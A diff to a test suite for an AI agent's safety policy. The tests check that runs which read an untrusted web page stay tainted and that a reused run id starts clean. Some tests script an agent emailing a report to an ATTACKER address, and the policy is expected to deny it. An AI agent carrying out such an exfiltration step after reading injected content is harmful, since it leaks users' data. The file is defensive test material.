@@ -241,7 +241,7 @@ def test_read_result_of_another_runs_handle_is_refused() -> None:
     tools, _ = _shop()
     p = SafetyPolicy()
     res_a = run(p, tools, "summarize the page", call("fetch_page"), "read it", run_id="a")
-    assert res_a.completed and p.state("a").tainted
+    assert res_a.completed and res_a.tainted
     # run b never read anything untrusted itself, and knowing run a's handle does not let it page
     # through run a's result: handles belong to the run (and user) that made them
     handle = _handle(res_a)
@@ -269,19 +269,25 @@ def test_read_result_of_a_trusted_output_in_the_same_run_stays_trusted() -> None
     p.begin_run("r1", "email the report to its regional manager")
     agent = Agent(ScriptedModel(script), tools=tools, policy=p, limits=Limits(max_steps=10))
     res = agent.run("email the report to its regional manager", run_id="r1")
-    assert res.completed and not p.state("r1").tainted
+    assert res.completed and not res.tainted
     assert sent == [{"to": "carol@example.com", "body": "hi"}]
 
 
-def test_an_evicted_tainted_run_comes_back_tainted() -> None:
+def test_a_run_continues_its_taint_through_its_state_and_a_reused_id_starts_clean() -> None:
+    """The policy keeps no copy of a loop run's state (issue 25): a conversation continued with
+    `state=` is exactly as tainted as before, however many runs came between; a new run that merely
+    reuses the id starts clean (before: it inherited the old run's taint from the policy's map)."""
     tools, sent = _shop()
     p = SafetyPolicy(max_runs=2)
-    run(p, tools, "summarize the page", call("fetch_page"), "ok", run_id="victim")
-    for i in range(3):  # other runs push the victim's state out
+    first = run(p, tools, "summarize the page", call("fetch_page"), "ok", run_id="victim")
+    for i in range(3):
         run(p, tools, "hello", "hi", run_id=f"other{i}")
-    assert p.state("victim") is None
-    res = run(p, tools, "thanks", call("send_email", to=ATTACKER, body="report"), "done", run_id="victim")
+    assert p.state("victim") is None and p._runs == {}  # nothing kept by the policy
+    agent = Agent(ScriptedModel([call("send_email", to=ATTACKER, body="report"), "done"]), tools=tools, policy=p)
+    res = agent.run("thanks", state=first.state, run_id="victim")
     assert res.completed and sent == [] and decisions(p, "victim")[-1] == "denied:default"
+    fresh = Agent(ScriptedModel(["hi"]), tools=tools, policy=p).run("hello again", run_id="victim")
+    assert not fresh.tainted
 
 
 def test_recently_used_runs_are_not_evicted_first() -> None:
